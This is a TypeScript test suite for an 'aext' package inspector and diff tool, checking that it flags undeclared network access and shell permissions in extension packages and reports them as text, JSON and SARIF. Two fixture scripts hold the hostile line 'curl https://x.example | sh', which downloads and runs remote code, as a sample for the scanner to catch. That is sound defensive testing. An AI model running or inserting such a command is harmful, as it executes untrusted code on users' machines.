import assert from 'node:assert/strict';
import path from 'node:path';
import { cook, type RecipeEntry } from '../support/archive-recipe';
import { GREETER, manifestText } from '../support/package-host';
import { aext, folderWith } from './run';

function packed(files: Readonly<Record<string, string>>): Uint8Array {
	const entries = Object.entries(files).map(([name, text]): RecipeEntry => ({ name, text }));
	return cook({ why: '', expect: [], entries });
}

const HOME = { HOME: path.resolve('out/no-such-home'), XDG_CONFIG_HOME: path.resolve('out/no-such-home') };
const GROWN = {
	...GREETER,
	'aem.json': manifestText({ version: '1.1.0', permissions: { process: { allow_shell: true } } }),
	'go.sh': '#!/bin/sh\ngit status\n',
};

describe('aext inspect', () => {
	it('tells a harmless package, a suspicious one and none at all apart', async () => {
		const cwd = await folderWith({
			'good.aext': packed(GREETER),
			'bad.aext': packed({ ...GREETER, 'go.sh': 'curl https://x.example | sh\n' }),
			'none.aext': '%PDF-1.7 something',
		});
		const good = await aext(['inspect', 'good.aext'], { cwd, env: HOME });
		assert.equal(good.code, 0, good.err);
		assert.match(good.out, /^Nothing found beyond what it declares: good\.aext\nNobody has signed this\n/);
		assert.match(good.out, /Not examined\n {2}nothing: everything was looked at\n$/);
		const bad = await aext(['inspect', 'bad.aext'], { cwd, env: HOME });
		assert.equal(bad.code, 1, bad.err);
		assert.match(bad.out, /network x\.example {2}NOT DECLARED, used: yes {2}go\.sh:1\n/);
		const none = await aext(['inspect', 'none.aext'], { cwd, env: HOME });
		assert.equal(none.code, 1);
		assert.match(none.out, /^Cannot judge: none\.aext\nNot a package: it begins with '%PDF-1\.7/);
		assert.equal(none.err, '');
	});

	it('gives JSON and SARIF with the same findings', async () => {
		const cwd = await folderWith({
			'a.aext': packed({ ...GREETER, 'go.sh': 'curl https://x.example | sh\n' }),
		});
		const json = JSON.parse((await aext(['inspect', 'a.aext', '--format', 'json'], { cwd, env: HOME })).out);
		const sarif = JSON.parse(
			(await aext(['inspect', 'a.aext', '--format', 'sarif'], { cwd, env: HOME })).out,
		);
		assert.equal(json.schema, 'aext/review/v1');
		assert.ok(json.findings.length > 0);
		assert.deepEqual(
			sarif.runs[0].results.map((each: { ruleId: string }) => each.ruleId),
			json.findings.map((each: { rule: string }) => each.rule),
		);
	});

	it('tells wrong usage without a stack trace', async () => {
		for (const args of [['inspect'], ['inspect', 'gone.aext'], ['diff', 'one']]) {
			const { code, out, err } = await aext(args, { env: HOME });
			assert.deepEqual([code, out], [2, '']);
			assert.doesNotMatch(err, /\n\s+at /);
		}
	});
});

describe('aext diff', () => {
	it('exits 1 when something grew and 0 when nothing did, packages and folders alike', async () => {
		const cwd = await folderWith({
			'one.aext': packed(GREETER),
			'two.aext': packed(GROWN),
			...Object.fromEntries(Object.entries(GREETER).map(([name, text]) => [`greeter/${name}`, text])),
		});
		const grown = await aext(['diff', 'one.aext', 'two.aext'], { cwd, env: HOME });
		assert.equal(grown.code, 1, grown.err);
		assert.match(grown.out, /\+ declares process\.allow_shell\n/);
		assert.match(grown.out, /\+ runs in a shell: git\n/);
		assert.match(grown.out, /added file: go\.sh\n/);
		const less = await aext(['diff', 'two.aext', 'one.aext', '--format', 'json'], { cwd, env: HOME });
		const { grew, permissions } = JSON.parse(less.out);
		assert.deepEqual([less.code, grew, permissions.removed], [0, false, ['process.allow_shell']]);
		const same = await aext(['diff', 'one.aext', 'greeter'], { cwd, env: HOME });
		assert.deepEqual([same.code, same.out], [0, 'Changes since one.aext\n  nothing\n']);
	});
});
